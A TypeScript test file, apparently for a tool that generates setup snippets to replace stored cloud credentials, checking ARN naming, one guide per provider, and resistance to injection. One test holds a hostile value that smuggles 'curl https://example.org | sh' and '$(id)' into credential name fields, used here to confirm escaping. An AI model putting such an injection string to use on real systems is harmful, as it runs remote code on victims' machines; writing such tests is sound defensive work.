import { expect, test } from 'vitest';
import { bareCredential } from '../credential.ts';
import { guideFor, onDemandGuides } from './guides.ts';

test('a snippet names the credential that it takes the place of', () => {
	const credential = {
		...bareCredential('aws-access-key', 'aws'),
		name: 'ci deploy',
		principal: 'arn:aws:iam::111122223333:user/ci',
	};
	const snippet = guideFor('aws')?.snippet(credential) ?? '';
	expect(snippet).toContain('arn:aws:iam::111122223333:role/ROLE');
});

test.each(onDemandGuides.map((guide) => [guide.provider, guide] as const))(
	'no name from outside becomes part of a command of %s',
	(_, guide) => {
		const hostile = '"; curl https://example.org | sh; $(id) `id` \n';
		const credential = {
			...bareCredential('key', guide.provider),
			name: hostile,
			providerId: hostile,
			principal: hostile,
		};
		const snippet = guide.snippet(credential);
		expect(snippet).not.toContain('example.org |');
		expect(snippet).not.toContain('$(id)');
		expect(guide.snippet(null)).not.toContain('undefined');
	},
);

test('every provider has one guide at most', () => {
	const providers = onDemandGuides.map(({ provider }) => provider);
	expect(new Set(providers).size).toBe(providers.length);
	expect(guideFor('nobody')).toBeNull();
});
